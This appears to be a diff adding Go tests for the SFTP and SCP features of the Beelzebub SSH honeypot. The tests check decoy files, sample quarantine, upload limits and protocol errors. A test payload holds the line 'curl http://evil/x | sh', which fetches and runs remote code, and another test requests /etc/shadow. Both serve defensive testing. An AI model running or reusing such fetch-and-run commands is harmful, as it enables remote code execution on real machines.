@@ -0,0 +1,356 @@
+package SSH
+
+import (
+	"bufio"
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/beelzebub-labs/beelzebub/v3/internal/parser"
+	"github.com/beelzebub-labs/beelzebub/v3/internal/quarantine"
+	"github.com/beelzebub-labs/beelzebub/v3/internal/tracer"
+
+	"github.com/pkg/sftp"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	gossh "golang.org/x/crypto/ssh"
+)
+
+func startFileTransferStrategy(t *testing.T, quarantineDir string, mt *mockTracer) *gossh.Client {
+	address := startSSHStrategy(t, parser.BeelzebubServiceConfiguration{
+		DeadlineTimeoutSeconds: 5,
+		PasswordRegex:          "^root$",
+		FileTransfer: parser.SSHFileTransfer{
+			Enabled:            true,
+			QuarantineDir:      quarantineDir,
+			MaxUploadSizeBytes: 1024,
+			DecoyFiles: []parser.SSHDecoyFile{
+				{Path: "/root/backup/db.sql", Content: "CREATE TABLE users;"},
+			},
+		},
+	}, mt)
+
+	client, err := gossh.Dial("tcp", address, &gossh.ClientConfig{
+		User:            "root",
+		Auth:            []gossh.AuthMethod{gossh.Password("root")},
+		HostKeyCallback: gossh.InsecureIgnoreHostKey(),
+	})
+	require.NoError(t, err)
+	t.Cleanup(func() { client.Close() })
+	return client
+}
+
+func eventsByMsg(events []tracer.Event, msg string) []tracer.Event {
+	var filtered []tracer.Event
+	for _, event := range events {
+		if event.Msg == msg {
+			filtered = append(filtered, event)
+		}
+	}
+	return filtered
+}
+
+func TestSSHStrategy_SFTP(t *testing.T) {
+	quarantineDir := t.TempDir()
+	mt := &mockTracer{}
+	client := startFileTransferStrategy(t, quarantineDir, mt)
+
+	sftpClient, err := sftp.NewClient(client)
+	require.NoError(t, err)
+
+	workingDirectory, err := sftpClient.Getwd()
+	require.NoError(t, err)
+	assert.Equal(t, "/root", workingDirectory)
+
+	// Download the decoy.
+	decoy, err := sftpClient.Open("backup/db.sql")
+	require.NoError(t, err)
+	content, err := io.ReadAll(decoy)
+	require.NoError(t, err)
+	decoy.Close()
+	assert.Equal(t, "CREATE TABLE users;", string(content))
+
+	// Upload a payload.
+	payload := []byte("#!/bin/sh\ncurl http://evil/x | sh\n")
+	upload, err := sftpClient.Create("/tmp/x.sh")
+	require.NoError(t, err)
+	_, err = upload.Write(payload)
+	require.NoError(t, err)
+	require.NoError(t, upload.Close())
+
+	entries, err := sftpClient.ReadDir("/tmp")
+	require.NoError(t, err)
+	require.Len(t, entries, 1)
+	assert.Equal(t, "x.sh", entries[0].Name())
+	assert.Equal(t, int64(len(payload)), entries[0].Size())
+
+	require.NoError(t, sftpClient.Rename("/tmp/x.sh", "/tmp/y.sh"))
+	require.NoError(t, sftpClient.Mkdir("/tmp/dir"))
+	_, err = sftpClient.Stat("/tmp/x.sh")
+	assert.ErrorIs(t, err, os.ErrNotExist)
+
+	// Uploads larger than the limit are refused.
+	large, err := sftpClient.Create("/tmp/large")
+	require.NoError(t, err)
+	_, err = large.Write(make([]byte, 2048))
+	assert.Error(t, err)
+	large.Close()
+
+	require.NoError(t, sftpClient.Close())
+
+	sample := quarantine.NewSample(payload)
+	quarantined, err := os.ReadFile(filepath.Join(quarantineDir, sample.SHA256))
+	require.NoError(t, err)
+	assert.Equal(t, payload, quarantined)
+
+	require.Eventually(t, func() bool {
+		return len(eventsByMsg(mt.Events(), "End SSH SFTP Session")) == 1
+	}, 2*time.Second, 10*time.Millisecond)
+
+	events := mt.Events()
+	start := eventsByMsg(events, "New SSH SFTP Session")
+	require.Len(t, start, 1)
+	assert.Equal(t, tracer.Start.String(), start[0].Status)
+
+	downloads := eventsByMsg(events, "SSH SFTP File Download")
+	require.Len(t, downloads, 1)
+	assert.Equal(t, "/root/backup/db.sql", downloads[0].FileName)
+	assert.Equal(t, start[0].ID, downloads[0].ID)
+
+	uploads := eventsByMsg(events, "SSH SFTP File Upload")
+	require.Len(t, uploads, 2)
+	assert.Equal(t, "/tmp/x.sh", uploads[0].FileName)
+	assert.Equal(t, int64(len(payload)), uploads[0].FileSize)
+	assert.Equal(t, sample.SHA256, uploads[0].FileSHA256)
+	assert.Equal(t, sample.SHA1, uploads[0].FileSHA1)
+	assert.Equal(t, sample.MD5, uploads[0].FileMD5)
+	assert.Equal(t, tracer.Interaction.String(), uploads[0].Status)
+	assert.Equal(t, "root", uploads[0].User)
+	// The partial content of the refused upload is captured.
+	assert.Equal(t, "/tmp/large", uploads[1].FileName)
+}
+
+func TestSSHStrategy_SCP_Upload(t *testing.T) {
+	quarantineDir := t.TempDir()
+	mt := &mockTracer{}
+	client := startFileTransferStrategy(t, quarantineDir, mt)
+
+	session, err := client.NewSession()
+	require.NoError(t, err)
+	stdin, err := session.StdinPipe()
+	require.NoError(t, err)
+	stdout, err := session.StdoutPipe()
+	require.NoError(t, err)
+	require.NoError(t, session.Start("scp -r -t /tmp"))
+
+	reader := bufio.NewReader(stdout)
+	readAck := func() {
+		status, err := reader.ReadByte()
+		require.NoError(t, err)
+		require.Equal(t, byte(0), status)
+	}
+	payload := "echo pwned\n"
+
+	readAck()
+	_, err = io.WriteString(stdin, "D0755 0 bot\n")
+	require.NoError(t, err)
+	readAck()
+	_, err = io.WriteString(stdin, "C0755 11 run.sh\n")
+	require.NoError(t, err)
+	readAck()
+	_, err = io.WriteString(stdin, payload+"\x00")
+	require.NoError(t, err)
+	readAck()
+	_, err = io.WriteString(stdin, "E\n")
+	require.NoError(t, err)
+	readAck()
+	stdin.Close()
+	require.NoError(t, session.Wait())
+
+	sample := quarantine.NewSample([]byte(payload))
+	_, err = os.Stat(filepath.Join(quarantineDir, sample.SHA256))
+	require.NoError(t, err)
+
+	uploads := eventsByMsg(mt.Events(), "SSH SCP File Upload")
+	require.Len(t, uploads, 1)
+	assert.Equal(t, "/tmp/bot/run.sh", uploads[0].FileName)
+	assert.Equal(t, int64(len(payload)), uploads[0].FileSize)
+	assert.Equal(t, sample.SHA256, uploads[0].FileSHA256)
+
+	// The uploaded file is visible over SFTP on the same connection.
+	sftpClient, err := sftp.NewClient(client)
+	require.NoError(t, err)
+	defer sftpClient.Close()
+	info, err := sftpClient.Stat("/tmp/bot/run.sh")
+	require.NoError(t, err)
+	assert.Equal(t, os.FileMode(0755), info.Mode().Perm())
+}
+
+func TestSSHStrategy_SCP_Download(t *testing.T) {
+	mt := &mockTracer{}
+	client := startFileTransferStrategy(t, "", mt)
+
+	session, err := client.NewSession()
+	require.NoError(t, err)
+	stdin, err := session.StdinPipe()
+	require.NoError(t, err)
+	stdout, err := session.StdoutPipe()
+	require.NoError(t, err)
+	require.NoError(t, session.Start("scp -f backup/db.sql"))
+
+	reader := bufio.NewReader(stdout)
+	_, err = stdin.Write([]byte{0})
+	require.NoError(t, err)
+	header, err := reader.ReadString('\n')
+	require.NoError(t, err)
+	assert.Equal(t, "C0644 19 db.sql\n", header)
+	_, err = stdin.Write([]byte{0})
+	require.NoError(t, err)
+	content := make([]byte, 20)
+	_, err = io.ReadFull(reader, content)
+	require.NoError(t, err)
+	assert.Equal(t, "CREATE TABLE users;\x00", string(content))
+	_, err = stdin.Write([]byte{0})
+	require.NoError(t, err)
+	require.NoError(t, session.Wait())
+
+	downloads := eventsByMsg(mt.Events(), "SSH SCP File Download")
+	require.Len(t, downloads, 1)
+	assert.Equal(t, "/root/backup/db.sql", downloads[0].FileName)
+	assert.Equal(t, int64(19), downloads[0].FileSize)
+}
+
+func TestSSHStrategy_SCP_DownloadMissingFile(t *testing.T) {
+	client := startFileTransferStrategy(t, "", &mockTracer{})
+
+	session, err := client.NewSession()
+	require.NoError(t, err)
+	stdin, err := session.StdinPipe()
+	require.NoError(t, err)
+	stdout, err := session.StdoutPipe()
+	require.NoError(t, err)
+	require.NoError(t, session.Start("scp -f /etc/shadow"))
+
+	_, err = stdin.Write([]byte{0})
+	require.NoError(t, err)
+	output, err := bufio.NewReader(stdout).ReadString('\n')
+	require.NoError(t, err)
+	assert.Equal(t, "\x01scp: /etc/shadow: No such file or directory\n", output)
+
+	var exitError *gossh.ExitError
+	require.ErrorAs(t, session.Wait(), &exitError)
+	assert.Equal(t, 1, exitError.ExitStatus())
+}
+
+func TestParseSCPCommand(t *testing.T) {
+	tests := []struct {
+		rawCommand string
+		expected   scpCommand
+		ok         bool
+	}{
+		{"scp -t /tmp", scpCommand{sink: true, target: "/tmp"}, true},
+		{"scp -r -d -t -- /tmp/dir", scpCommand{sink: true, target: "/tmp/dir"}, true},
+		{"scp -v -f .bashrc", scpCommand{sink: false, target: ".bashrc"}, true},
+		{"scp -t -- -dash", scpCommand{sink: true, target: "-dash"}, true},
+		{"scp /tmp", scpCommand{}, false},
+		{"scp -t", scpCommand{}, false},
+		{"ls -t /tmp", scpCommand{}, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.rawCommand, func(t *testing.T) {
+			command, ok := parseSCPCommand(tt.rawCommand)
+			assert.Equal(t, tt.ok, ok)
+			assert.Equal(t, tt.expected, command)
+		})
+	}
+}
+
+func TestSSHStrategy_SCP_EmptyLine(t *testing.T) {
+	client := startFileTransferStrategy(t, "", &mockTracer{})
+
+	session, err := client.NewSession()
+	require.NoError(t, err)
+	stdin, err := session.StdinPipe()
+	require.NoError(t, err)
+	stdout, err := session.StdoutPipe()
+	require.NoError(t, err)
+	require.NoError(t, session.Start("scp -t /tmp"))
+
+	reader := bufio.NewReader(stdout)
+	status, err := reader.ReadByte()
+	require.NoError(t, err)
+	require.Equal(t, byte(0), status)
+	_, err = io.WriteString(stdin, "\n")
+	require.NoError(t, err)
+	output, err := reader.ReadString('\n')
+	require.NoError(t, err)
+	assert.Equal(t, "\x01scp: protocol error: unexpected empty line\n", output)
+
+	var exitError *gossh.ExitError
+	require.ErrorAs(t, session.Wait(), &exitError)
+	assert.Equal(t, 1, exitError.ExitStatus())
+
+	// The server is still running.
+	session, err = client.NewSession()
+	require.NoError(t, err)
+	session.Close()
+}
+
+func TestSSHStrategy_SCP_LineTooLong(t *testing.T) {
+	client := startFileTransferStrategy(t, "", &mockTracer{})
+
+	session, err := client.NewSession()
+	require.NoError(t, err)
+	stdin, err := session.StdinPipe()
+	require.NoError(t, err)
+	stdout, err := session.StdoutPipe()
+	require.NoError(t, err)
+	require.NoError(t, session.Start("scp -t /tmp"))
+
+	reader := bufio.NewReader(stdout)
+	status, err := reader.ReadByte()
+	require.NoError(t, err)
+	require.Equal(t, byte(0), status)
+	// A header without newline is not buffered beyond scpMaxLineLength.
+	go io.WriteString(stdin, "C0644 1 "+strings.Repeat("x", 2*scpMaxLineLength))
+	output, err := reader.ReadString('\n')
+	require.NoError(t, err)
+	assert.Equal(t, "\x01scp: protocol error: line too long\n", output)
+
+	var exitError *gossh.ExitError
+	require.ErrorAs(t, session.Wait(), &exitError)
+	assert.Equal(t, 1, exitError.ExitStatus())
+}
+
+func TestUploadQuota(t *testing.T) {
+	global := &uploadQuota{limit: 10}
+	first := &uploadQuota{limit: 8, parent: global}
+	second := &uploadQuota{limit: 8, parent: global}
+
+	require.NoError(t, first.reserve(6))
+	assert.ErrorIs(t, first.reserve(3), errUploadQuotaExceeded, "the connection quota is exceeded")
+	assert.ErrorIs(t, second.reserve(5), errUploadQuotaExceeded, "the global quota is exceeded")
+	assert.Equal(t, int64(0), second.used)
+
+	first.releaseAll()
+	assert.Equal(t, int64(0), global.used)
+	assert.NoError(t, second.reserve(5))
+}
+
+func TestUploadBuffer_Quota(t *testing.T) {
+	buffer := &uploadBuffer{limit: 1 << 20, quota: &uploadQuota{limit: 100}}
+
+	_, err := buffer.WriteAt([]byte("payload"), 1000)
+	assert.ErrorIs(t, err, errUploadQuotaExceeded)
+	assert.Empty(t, buffer.data, "nothing is allocated beyond the quota")
+
+	n, err := buffer.WriteAt([]byte("payload"), 10)
+	require.NoError(t, err)
+	assert.Equal(t, 7, n)
+	assert.Len(t, buffer.data, 17)
+	assert.Equal(t, int64(17), buffer.quota.used)
+}